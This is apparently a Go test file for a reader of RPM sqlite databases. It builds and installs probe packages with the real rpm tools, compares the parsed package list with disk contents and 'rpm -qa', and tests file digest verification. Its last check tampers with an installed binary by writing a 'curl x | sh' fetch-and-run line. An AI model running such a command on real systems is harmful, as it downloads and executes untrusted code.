package rpmdb_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/abusekit/abusekit/internal/rootfs"
	"github.com/abusekit/abusekit/internal/rpmdb"
	"github.com/abusekit/abusekit/internal/testenv"
)

// The packages built with the real rpmbuild. probe holds one file of
// every kind persist cares about; many holds enough files that its
// header spans several Berkeley DB pages.
const probeSpec = `
Name: abusekit-probe
Version: 1.2
Release: 3
Epoch: 2
Summary: probe
License: MIT
BuildArch: noarch
%description
probe
%install
mkdir -p %{buildroot}/etc/probe %{buildroot}/usr/bin %{buildroot}/var/lib/probe
echo 'key = value' > %{buildroot}/etc/probe/probe.conf
printf '#!/bin/sh\necho hi\n' > %{buildroot}/usr/bin/probe
chmod 755 %{buildroot}/usr/bin/probe
ln -s probe %{buildroot}/usr/bin/probe-link
%files
%config(noreplace) /etc/probe/probe.conf
/usr/bin/probe
/usr/bin/probe-link
%dir /var/lib/probe
%ghost /var/lib/probe/state
`

const manySpec = `
Name: abusekit-many
Version: 0.1
Release: 1
Summary: many files
License: MIT
BuildArch: noarch
%description
many
%install
for d in $(seq 1 20); do
  mkdir -p %{buildroot}/usr/share/abusekit-many/d$d
  for f in $(seq 1 25); do echo "$d $f" > %{buildroot}/usr/share/abusekit-many/d$d/file-$f.txt; done
done
%files
/usr/share/abusekit-many
`

var (
	rpmOnce  sync.Once
	rpmDir   string // built .rpm files and the reference root
	rpmFiles []string
	rpmErr   error
)

// TestMain removes what the shared rpm build left behind.
func TestMain(m *testing.M) {
	code := m.Run()
	if rpmDir != "" {
		os.RemoveAll(rpmDir)
	}
	os.Exit(code)
}

func needRPM(t testing.TB) {
	t.Helper()
	for _, tool := range []string{"rpm", "rpmbuild"} {
		if _, err := exec.LookPath(tool); err != nil {
			testenv.Skipf(t, "needs %s (apt-get install rpm): %v", tool, err)
		}
	}
}

// builtRPMs builds the test packages once per test binary with the real
// rpmbuild (no network: everything comes from the spec).
func builtRPMs(t testing.TB) []string {
	t.Helper()
	needRPM(t)
	rpmOnce.Do(func() {
		rpmDir, rpmErr = os.MkdirTemp("", "rpmdb-rpmbuild-*")
		if rpmErr != nil {
			return
		}
		for i, spec := range []string{probeSpec, manySpec} {
			path := filepath.Join(rpmDir, fmt.Sprintf("p%d.spec", i))
			if rpmErr = os.WriteFile(path, []byte(spec), 0o644); rpmErr != nil {
				return
			}
			out, err := exec.Command("rpmbuild", "-bb", "--quiet",
				"--define", "_topdir "+filepath.Join(rpmDir, "top"),
				"--define", "_tmppath "+filepath.Join(rpmDir, "tmp"),
				path).CombinedOutput()
			if err != nil {
				rpmErr = fmt.Errorf("rpmbuild %s: %v\n%s", path, err, out)
				return
			}
		}
		rpmFiles, rpmErr = filepath.Glob(filepath.Join(rpmDir, "top/RPMS/*/*.rpm"))
		if rpmErr == nil && len(rpmFiles) != 2 {
			rpmErr = fmt.Errorf("rpmbuild made %v", rpmFiles)
		}
	})
	if rpmErr != nil {
		t.Fatal(rpmErr)
	}
	return rpmFiles
}

// installRoot installs the test packages into a fresh root with the real
// rpm (sqlite backend, rpm's default since 4.16) and returns the root.
func installRoot(t testing.TB) string {
	t.Helper()
	files := builtRPMs(t)
	root := t.TempDir()
	args := append([]string{"--root", root, "--dbpath", "/var/lib/rpm", "--define", "_db_backend sqlite",
		"--nodeps", "--noscripts", "--nosignature", "-i"}, files...)
	if out, err := exec.Command("rpm", args...).CombinedOutput(); err != nil {
		t.Fatalf("rpm -i: %v\n%s", err, out)
	}
	return root
}

// rpmQuery lists the packages of a database with the real rpm: a reader
// written by others, for the same data.
func rpmQuery(t testing.TB, root, dbpath string, defines ...string) []rpmdb.Package {
	t.Helper()
	args := []string{"--root", root, "--dbpath", dbpath}
	for _, d := range defines {
		args = append(args, "--define", d)
	}
	args = append(args, "-qa", "--qf",
		`P	%{NAME}	%{EPOCH}	%{VERSION}	%{RELEASE}	%{ARCH}	%{FILEDIGESTALGO}\n[F	%{FILENAMES}	%{FILEDIGESTS}	%{FILEMODES}	%{FILEFLAGS}	%{LONGFILESIZES}	%{FILELINKTOS}\n]`)
	cmd := exec.Command("rpm", args...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("rpm -qa: %v\n%s", err, stderr.Bytes())
	}
	var pkgs []rpmdb.Package
	atoi := func(s string) int64 {
		n, err := strconv.ParseInt(s, 10, 64)
		if err != nil {
			t.Fatalf("rpm -qa: %q: %v", s, err)
		}
		return n
	}
	sc := bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		f := strings.Split(sc.Text(), "\t")
		switch {
		case f[0] == "P" && len(f) == 7:
			p := rpmdb.Package{Name: f[1], Version: f[3], Release: f[4], Arch: f[5]}
			if f[2] != "(none)" {
				p.Epoch = int(atoi(f[2]))
			}
			pkgs = append(pkgs, p)
		case f[0] == "F" && len(f) == 7 && len(pkgs) > 0:
			p := &pkgs[len(pkgs)-1]
			algo := crypto.MD5 // replaced below when FILEDIGESTALGO is set
			p.Files = append(p.Files, rpmdb.File{
				Path: f[1], Digest: f[2], Algo: algo, Mode: uint16(atoi(f[3])),
				Flags: uint32(atoi(f[4])), Size: atoi(f[5]), LinkTo: f[6],
			})
		default:
			t.Fatalf("rpm -qa: unexpected line %q", sc.Text())
		}
	}
	// The algorithm is per package: fill it in from the P lines.
	i := -1
	sc = bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		f := strings.Split(sc.Text(), "\t")
		if f[0] != "P" {
			continue
		}
		i++
		if f[6] == "(none)" {
			continue
		}
		algo := rpmdb.Algo(uint32(atoi(f[6])))
		for j := range pkgs[i].Files {
			pkgs[i].Files[j].Algo = algo
		}
	}
	sortPkgs(pkgs)
	return pkgs
}

func sortPkgs(p []rpmdb.Package) {
	sort.Slice(p, func(i, j int) bool { return p[i].Name < p[j].Name })
}

func readRoot(t testing.TB, dir string) []rpmdb.Package {
	t.Helper()
	r, err := rootfs.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	pkgs, err := rpmdb.Read(context.Background(), r, rpmdb.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	sortPkgs(pkgs)
	return pkgs
}

func sha256File(t testing.TB, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// TestReadRealRPMSQLite reads a database the real rpm wrote, and checks
// it against the installed files themselves and against rpm's own
// reading of it.
func TestReadRealRPMSQLite(t *testing.T) {
	root := installRoot(t)
	got := readRoot(t, root)

	// From the files on disk and the spec.
	h := func(p string) string { return sha256File(t, filepath.Join(root, p)) }
	fi := func(p string) os.FileInfo {
		st, err := os.Lstat(filepath.Join(root, p))
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	probe := rpmdb.Package{Name: "abusekit-probe", Epoch: 2, Version: "1.2", Release: "3", Arch: "noarch", Files: []rpmdb.File{
		{Path: "/etc/probe/probe.conf", Digest: h("/etc/probe/probe.conf"), Algo: crypto.SHA256, Mode: 0o100644,
			Flags: rpmdb.FlagConfig | rpmdb.FlagNoReplace, Size: fi("/etc/probe/probe.conf").Size()},
		{Path: "/usr/bin/probe", Digest: h("/usr/bin/probe"), Algo: crypto.SHA256, Mode: 0o100755, Size: fi("/usr/bin/probe").Size()},
		{Path: "/usr/bin/probe-link", Algo: crypto.SHA256, Mode: 0o120777, Size: 5, LinkTo: "probe"},
		{Path: "/var/lib/probe", Algo: crypto.SHA256, Mode: 0o40755},
		{Path: "/var/lib/probe/state", Algo: crypto.SHA256, Mode: 0o100000, Flags: rpmdb.FlagGhost},
	}}
	many := rpmdb.Package{Name: "abusekit-many", Version: "0.1", Release: "1", Arch: "noarch"}
	many.Files = append(many.Files, rpmdb.File{Path: "/usr/share/abusekit-many", Algo: crypto.SHA256, Mode: 0o40755})
	for d := 1; d <= 20; d++ {
		dir := fmt.Sprintf("/usr/share/abusekit-many/d%d", d)
		many.Files = append(many.Files, rpmdb.File{Path: dir, Algo: crypto.SHA256, Mode: 0o40755})
		for f := 1; f <= 25; f++ {
			p := fmt.Sprintf("%s/file-%d.txt", dir, f)
			many.Files = append(many.Files, rpmdb.File{Path: p, Digest: h(p), Algo: crypto.SHA256, Mode: 0o100644, Size: fi(p).Size()})
		}
	}
	sort.Slice(many.Files, func(i, j int) bool { return many.Files[i].Path < many.Files[j].Path })
	want := []rpmdb.Package{many, probe}
	if d := cmp.Diff(want, got, equateEmpty); d != "" {
		t.Errorf("Read vs the installed files (-want +got):\n%s", d)
	}
	if d := cmp.Diff(rpmQuery(t, root, "/var/lib/rpm"), got, equateEmpty); d != "" {
		t.Errorf("Read vs rpm -qa (-rpm +Read):\n%s", d)
	}
	// Every installed regular file verifies; a changed one does not.
	verify := func(f rpmdb.File) bool {
		fh, err := os.Open(filepath.Join(root, f.Path))
		if err != nil {
			t.Fatal(err)
		}
		defer fh.Close()
		ok, err := f.Verify(fh)
		if err != nil {
			t.Fatalf("Verify %s: %v", f.Path, err)
		}
		return ok
	}
	n := 0
	for _, p := range got {
		for _, f := range p.Files {
			if f.Digest != "" {
				n++
				if !verify(f) {
					t.Errorf("%s: stock file does not verify", f.Path)
				}
			}
		}
	}
	if n != 502 {
		t.Errorf("%d files with digests, want 502", n)
	}
	if err := os.WriteFile(filepath.Join(root, "usr/bin/probe"), []byte("#!/bin/sh\ncurl x | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if verify(probe.Files[1]) {
		t.Error("changed /usr/bin/probe verifies")
	}
}
